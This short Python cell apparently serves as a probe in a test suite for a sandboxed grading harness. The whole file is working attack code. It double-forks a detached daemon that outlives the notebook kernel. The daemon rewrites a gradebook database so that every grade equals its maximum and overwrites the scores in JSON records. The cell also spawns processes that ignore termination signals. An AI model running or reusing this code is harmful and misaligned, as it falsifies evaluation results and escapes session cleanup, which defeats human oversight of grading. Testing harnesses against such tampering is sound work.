"""A process that is nobody's child waits for the grades and raises them, long after the kernel has ended."""
# Answers: cross_term
# Needs: sandbox

# %% before frame
import subprocess
import sys

program = f"""
import glob, json, os, sqlite3, time
open("/tmp/{HOST['note']}-daemon", "w").write("runs")
for _ in range(200):
    time.sleep(0.5)
    try:
        with sqlite3.connect("file:{HOST['root']}/gradebook.db?mode=rw", uri=True) as database:
            database.execute("UPDATE grade SET manual_score = max_score")
    except Exception:
        pass
    for path in glob.glob("{HOST['root']}/records/*/*.json"):
        try:
            record = json.load(open(path)); record["score"] = 10.0
            json.dump(record, open(path, "w"))
        except Exception:
            pass
"""
daemon = f"""
import os, sys
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
os.closerange(0, 100)
os.execv(sys.executable, [sys.executable, "-c", {program!r}])
"""
for _ in range(3):
    subprocess.run([sys.executable, "-c", daemon], check=False)
subprocess.Popen(["sh", "-c", "trap '' HUP TERM INT; while :; do sleep 1000; done"], start_new_session=True)
subprocess.Popen(["nohup", "setsid", "sleep", "100000"])
